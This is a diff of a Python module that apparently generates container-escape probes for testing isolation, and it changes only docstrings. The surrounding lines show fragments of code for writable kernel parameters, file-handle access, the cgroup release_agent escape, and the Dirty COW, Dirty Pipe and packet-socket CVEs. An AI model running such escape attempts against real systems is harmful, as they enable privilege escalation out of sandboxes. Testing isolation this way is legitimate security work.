@@ -1,4 +1,4 @@
-"""Attempts at the kernel: capabilities, modules, parameters, control groups, and flaws that were once public."""
+"""Attempts at the kernel: capabilities, modules, parameters, control groups, and flaws once made public."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ _MARK = "ESCAPED!"
 
 
 def parameters(_target: Target) -> str:
-    """Open parameters of the kernel for writing; nothing is written."""
+    """Open parameters of the kernel for writing, without writing."""
     return """
 for switch in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/poweroff_cmd kernel/shm_rmid_forced \\
         vm/panic_on_oom fs/suid_dumpable fs/binfmt_misc/register kernel/sysrq kernel/ns_last_pid; do
@@ -25,7 +25,7 @@ done | head -n 5
 
 
 def mount_rights(target: Target) -> str:
-    """Mount, enter or replace a file system, with the rights that there are and with those of new namespaces."""
+    """Mount, enter or replace a file system, with the existing rights and with the rights of new namespaces."""
     folder = str(target.writable[0])
     code = f"""
 folder = {folder!r}.encode()
@@ -71,7 +71,7 @@ if os.uname().machine == "x86_64":
 
 
 def handles(target: Target) -> str:
-    """Open files by their handles (CAP_DAC_READ_SEARCH), which ask no path and no permission."""
+    """Open files by their handles (CAP_DAC_READ_SEARCH), without any path or permission."""
     code = f"""
 import re
 class Handle(ctypes.Structure):
@@ -92,7 +92,7 @@ except OSError as error: print("held:", error)
 
 
 def release_agent(target: Target) -> str:
-    """Have the kernel run a program outside, by control groups of the first version; nothing is written."""
+    """Have the kernel run a program outside, by control groups of the first version, without writing."""
     folder = target.writable[0]
     return (
         f"""
@@ -136,7 +136,7 @@ os.waitpid(child, 0)
 
 
 def copy_race(target: Target) -> str:
-    """Write to a file that may only be read, by a race of copy-on-write (CVE-2016-5195)."""
+    """Write to a read-only file, by a race of copy-on-write (CVE-2016-5195)."""
     code = f"""
 import mmap, threading, time
 path, mark = {str(target.readable)!r}, b"{_MARK}"
@@ -163,7 +163,7 @@ if mark in open(path, "rb").read(4096): breach("changes a file that it may only 
 
 
 def pipe_flag(target: Target) -> str:
-    """Write to a file that may only be read, by a pipe that takes pages over (CVE-2022-0847)."""
+    """Write to a read-only file, by a pipe that takes over pages (CVE-2022-0847)."""
     code = f"""
 path, mark = {str(target.readable)!r}, b"{_MARK}"
 file = os.open(path, os.O_RDONLY)
@@ -181,7 +181,7 @@ if mark in open(path, "rb").read(4096): breach("changes a file that it may only 
 
 
 def packets(_target: Target) -> str:
-    """Open a packet socket (CVE-2020-14386), with the rights that there are and with those of new namespaces."""
+    """Open a packet socket (CVE-2020-14386), with the existing rights and with the rights of new namespaces."""
     code = """
 def try_(where):
     for family, kind, protocol in ((17, 3, 0x0300), (17, 2, 0x0300), (2, 3, 1)):
